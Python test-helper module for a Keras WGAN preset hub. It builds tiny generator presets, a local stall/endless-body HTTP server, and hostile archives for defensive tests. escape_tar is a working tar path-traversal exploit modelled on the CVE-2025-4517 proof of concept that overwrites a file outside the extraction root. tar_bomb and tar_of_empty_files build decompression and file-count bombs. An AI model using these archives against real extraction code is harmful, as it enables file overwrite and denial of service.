"""Helpers for the hub tests: tiny generators, packed presets, hostile archives, and a local
HTTP server that can also stall or send an endless body.

Everything here runs offline: the server binds 127.0.0.1 on a free port.
"""

import bz2
import contextlib
import gzip
import http.server
import io
import os
import pathlib
import tarfile
import threading
import zipfile

import keras

from keras_wgan.hub.preset import save_preset


def tiny_generator(latent_dim=4, seed=0):
    """A two-Dense-layer generator `(B, latent_dim) -> (B, 2, 3, 1)` in [-1, 1]."""
    init = keras.initializers.GlorotUniform(seed=seed)
    latent = keras.Input((latent_dim,), name="latent")
    x = keras.layers.Dense(8, activation="relu", kernel_initializer=init)(latent)
    x = keras.layers.Dense(6, activation="tanh", kernel_initializer=init)(x)
    return keras.Model(latent, keras.layers.Reshape((2, 3, 1))(x), name="tiny_generator")


def make_preset(directory, latent_dim=4, seed=0, **kwargs):
    """Saves a `tiny_generator` as a preset at `directory`; returns (generator, metadata)."""
    generator = tiny_generator(latent_dim, seed)
    metadata = {"description": "tiny test generator", "family": "test", "dataset": "none",
                "training_steps": 0, "metrics": {}}
    metadata.update(kwargs.pop("metadata", {}))
    return generator, save_preset(generator, directory, metadata=metadata, **kwargs)


def pack(directory, archive, arcname=None):
    """Packs a folder into `archive` (`.tar.gz` or `.zip`) under the top folder `arcname`."""
    directory, archive = pathlib.Path(directory), pathlib.Path(archive)
    arcname = arcname or directory.name
    if archive.name.endswith(".zip"):
        with zipfile.ZipFile(archive, "w") as z:
            for path in sorted(directory.rglob("*")):
                z.write(path, f"{arcname}/{path.relative_to(directory)}")
    else:
        with tarfile.open(archive, "w:gz") as t:
            t.add(directory, arcname=arcname)
    return archive


def tar_with(archive, members):
    """Writes a `.tar.gz` of raw members: `(name, bytes)` files or `(TarInfo, None)` entries."""
    with tarfile.open(archive, "w:gz") as t:
        for name, data in members:
            if isinstance(name, tarfile.TarInfo):
                t.addfile(name)
            else:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
    return archive


def preset_members(directory, arcname=""):
    """`(name, bytes)` for every file of a preset folder, named `arcname/<file>` (or bare)."""
    prefix = f"{arcname}/" if arcname else ""
    return [(prefix + path.name, path.read_bytes())
            for path in sorted(pathlib.Path(directory).iterdir()) if path.is_file()]


def escape_tar(archive, root_len, up, victim, payload, preset=()):
    """A tar built like the CVE-2025-4517 proof of concept, which escapes `filter="data"`.

    Sixteen nested folders with long names, each with a one-letter symlink beside it, so the
    symlinks' real path passes PATH_MAX (4096) while their names stay short; a last symlink in
    that chain points back up to the extraction root, which `os.path.realpath` can no longer
    see; `escape` climbs `up` folders above the root through it; a hard link to
    `escape/<victim>` and a regular file written over that link then overwrite the victim
    outside the root. `root_len` is the length of the extraction root's path (the long names
    are sized from it); `preset` adds `(name, bytes)` files so the archive is a loadable preset.
    """
    steps = "abcdefghijklmnop"
    component = "d" * ((4096 - root_len - 128) // len(steps) - 1)
    members = list(preset)
    path = ""
    for step in steps:
        folder = tarfile.TarInfo(os.path.join(path, component))
        folder.type, folder.mode = tarfile.DIRTYPE, 0o777
        link = tarfile.TarInfo(os.path.join(path, step))
        link.type, link.linkname = tarfile.SYMTYPE, component
        members += [(folder, None), (link, None)]
        path = os.path.join(path, component)
    linkpath = os.path.join(*steps, "l" * 254)
    back = tarfile.TarInfo(linkpath)
    back.type, back.linkname = tarfile.SYMTYPE, os.path.join(*[".."] * len(steps))
    escape = tarfile.TarInfo("escape")
    escape.type, escape.linkname = tarfile.SYMTYPE, os.path.join(linkpath, *[".."] * up)
    hard = tarfile.TarInfo("flaglink")
    hard.type, hard.linkname = tarfile.LNKTYPE, os.path.join("escape", victim)
    members += [(back, None), (escape, None), (hard, None), ("flaglink", payload)]
    return tar_with(archive, members)


def tar_bomb(archive, declared, compression="bz2", chunk=16 << 20):
    """A compressed tar whose one member declares `declared` bytes of zeros (a multiple of
    `chunk`), built in a blink: `chunk` zeros are compressed once and the compressed stream
    repeated (gzip and bzip2 both decode concatenated streams as one)."""
    compress = {"bz2": bz2.compress, "gz": lambda b: gzip.compress(b, mtime=0)}[compression]
    info = tarfile.TarInfo("preset/zeros.bin")
    info.size = declared
    zeros = compress(b"\0" * chunk)
    with open(archive, "wb") as f:
        f.write(compress(info.tobuf(tarfile.PAX_FORMAT)))
        for _ in range(declared // chunk):
            f.write(zeros)
        f.write(compress(b"\0" * 2 * tarfile.BLOCKSIZE))
    return archive


def _empty_file_header(template, base_sum, name):
    header = bytearray(template)
    header[: len(name)] = name
    header[148:156] = b"%06o\0 " % (base_sum + sum(name))
    return bytes(header)


def tar_of_empty_files(archive, count, folder="preset"):
    """A `.tar.gz` of `count` empty regular files `folder/f000000`..., headers made directly
    (100,000 in well under a second, where `tarfile` needs seconds)."""
    info = tarfile.TarInfo("")
    info.mtime, info.mode = 0, 0o644
    template = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    template[148:156] = b" " * 8
    base_sum = sum(template)
    with gzip.open(archive, "wb", compresslevel=1) as f:
        for i in range(count):
            f.write(_empty_file_header(template, base_sum, f"{folder}/f{i:06d}".encode()))
        f.write(b"\0" * 2 * tarfile.BLOCKSIZE)
    return archive


class FileServer:
    """Serves `files` (`{url path: bytes}`) from 127.0.0.1 in a daemon thread.

    `truncate` lists paths answered with a full `Content-Length` but only half the bytes;
    `stall` lists paths answered with a full `Content-Length` and half the bytes, after which
    the server goes silent (until it shuts down, or 30 s);
    `endless` lists paths answered without `Content-Length` by zeros until the client hangs up
    (or 256 MiB); `gate`, when set, is a `threading.Event` every request waits on before
    answering; `requests` counts the GET requests per path.
    """

    def __init__(self, files=None):
        self.files = dict(files or {})
        self.truncate = set()
        self.stall = set()
        self.endless = set()
        self.gate = None
        self.requests = {}
        self.closing = threading.Event()
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's naming)
                server.requests[self.path] = server.requests.get(self.path, 0) + 1
                if server.gate is not None:
                    server.gate.wait(60)
                if self.path in server.endless:
                    self.send_response(200)
                    self.end_headers()
                    with contextlib.suppress(OSError):
                        for _ in range(256):
                            self.wfile.write(b"\0" * (1 << 20))
                    return
                data = server.files.get(self.path)
                if data is None:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                if self.path in server.stall:
                    self.wfile.write(data[: len(data) // 2])
                    self.wfile.flush()
                    server.closing.wait(30)
                    return
                self.wfile.write(data[: len(data) // 2] if self.path in server.truncate else data)

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def url(self, path):
        return f"http://127.0.0.1:{self.httpd.server_address[1]}{path}"

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.closing.set()
        if self.gate is not None:
            self.gate.set()
        self.httpd.shutdown()
        self.httpd.server_close()


@contextlib.contextmanager
def serve(files=None):
    """`with serve({"/p.tar.gz": data}) as server: server.url("/p.tar.gz")`."""
    with FileServer(files) as server:
        yield server
